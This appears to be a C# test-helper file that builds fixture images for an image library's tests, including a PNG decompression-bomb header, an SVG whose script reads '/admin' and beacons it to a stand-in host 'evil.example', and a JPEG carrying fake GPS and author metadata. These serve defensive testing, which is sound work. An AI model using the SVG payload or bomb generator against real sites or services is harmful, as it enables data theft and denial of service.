using System.Buffers.Binary;
using System.Diagnostics;
using System.IO.Compression;
using SkiaSharp;

namespace Medarbejdergrundlag.Tests.Shared.Images;

/// <summary>Image files for the image library's tests, made here, and exiftool to write and read their metadata.</summary>
public static class TestImages
{
    /// <summary>A photo-like JPEG (gradients and noise) of the given size.</summary>
    public static byte[] Photo(int width = 2000, int height = 1500, int seed = 1) => Encode(width, height, SKAlphaType.Opaque, SKEncodedImageFormat.Jpeg, seed);

    /// <summary>An opaque PNG (no transparency).</summary>
    public static byte[] Png(int width = 800, int height = 600, int seed = 2) => Encode(width, height, SKAlphaType.Opaque, SKEncodedImageFormat.Png, seed);

    /// <summary>A PNG with transparent pixels.</summary>
    public static byte[] TransparentPng(int width = 800, int height = 600, int seed = 3) => Encode(width, height, SKAlphaType.Unpremul, SKEncodedImageFormat.Png, seed);

    private static byte[] Encode(int width, int height, SKAlphaType alpha, SKEncodedImageFormat format, int seed)
    {
        using var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, alpha));
        var random = new Random(seed);
        var pixels = bitmap.GetPixelSpan();
        for (var y = 0; y < height; y++)
        {
            for (var x = 0; x < width; x++)
            {
                var i = ((y * width) + x) * 4;
                var noise = random.Next(30);
                pixels[i] = (byte)(((x * 255 / width) + noise) & 255);
                pixels[i + 1] = (byte)(((y * 255 / height) + noise) & 255);
                pixels[i + 2] = (byte)((((x + y) / 7) + noise) & 255);
                pixels[i + 3] = alpha == SKAlphaType.Opaque ? (byte)255 : (byte)(x < width / 2 ? 0 : 255);
            }
        }

        using var data = bitmap.Encode(format, 90);
        return data.ToArray();
    }

    /// <summary>
    /// A PNG whose header claims <paramref name="width"/> × <paramref name="height"/> pixels, with one
    /// tiny compressed row after it: a decompression bomb's header, a few hundred bytes on disk.
    /// </summary>
    public static byte[] PngClaiming(int width, int height)
    {
        using var file = new MemoryStream();
        file.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bit depth
        header[9] = 2; // RGB
        Chunk(file, "IHDR", header);
        using var compressed = new MemoryStream();
        using (var z = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            z.Write(new byte[1 + (3 * 64)]);
        }

        Chunk(file, "IDAT", compressed.ToArray());
        Chunk(file, "IEND", []);
        return file.ToArray();
    }

    private static void Chunk(Stream file, string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        file.Write(length);
        var typed = System.Text.Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        file.Write(typed);
        var crc = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typed));
        file.Write(crc);
    }

    /// <summary>PNG's chunk checksum (CRC-32, polynomial 0xEDB88320), so libpng reads the header as valid.</summary>
    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }

    public const string SvgWithScript =
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\" onload=\"alert(document.cookie)\">" +
        "<script>fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script><rect width=\"100\" height=\"100\"/></svg>";

    /// <summary>exiftool on the path (tests/setup/24-exiftool.sh installs it).</summary>
    public static string Exiftool => "exiftool";

    /// <summary>The photo with GPS coordinates, a camera make and model, and a description in EXIF, XMP and IPTC, written by exiftool.</summary>
    public static byte[] WithPrivateMetadata(byte[] jpeg)
    {
        var path = Path.Combine(Path.GetTempPath(), $"mg-exif-{Guid.NewGuid():N}.jpg");
        File.WriteAllBytes(path, jpeg);
        try
        {
            Run("-overwrite_original", "-GPSLatitude=55.3959", "-GPSLatitudeRef=N", "-GPSLongitude=10.3883", "-GPSLongitudeRef=E",
                "-Make=Hemmelig Kamerafabrik", "-Model=Spion 3000", "-ImageDescription=Borgmesterens kontor, Flakhaven 2",
                "-XMP-dc:Description=Borgmesterens kontor, Flakhaven 2", "-IPTC:Caption-Abstract=Borgmesterens kontor, Flakhaven 2",
                "-Artist=Hanne Hansen", path);
            return File.ReadAllBytes(path);
        }
        finally
        {
            File.Delete(path);
        }
    }

    /// <summary>Every tag exiftool finds in the bytes, one "Group:Tag: value" per line.</summary>
    public static string Tags(byte[] image)
    {
        var path = Path.Combine(Path.GetTempPath(), $"mg-read-{Guid.NewGuid():N}.img");
        File.WriteAllBytes(path, image);
        try
        {
            return Run("-a", "-G1", "-s", path);
        }
        finally
        {
            File.Delete(path);
        }
    }

    private static string Run(params string[] arguments)
    {
        var start = new ProcessStartInfo(Exiftool) { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start) ?? throw new InvalidOperationException("exiftool did not start (tests/setup/24-exiftool.sh installs it).");
        var output = process.StandardOutput.ReadToEnd();
        var error = process.StandardError.ReadToEnd();
        process.WaitForExit();
        if (process.ExitCode != 0)
        {
            throw new InvalidOperationException($"exiftool failed: {error}");
        }

        return output;
    }
}
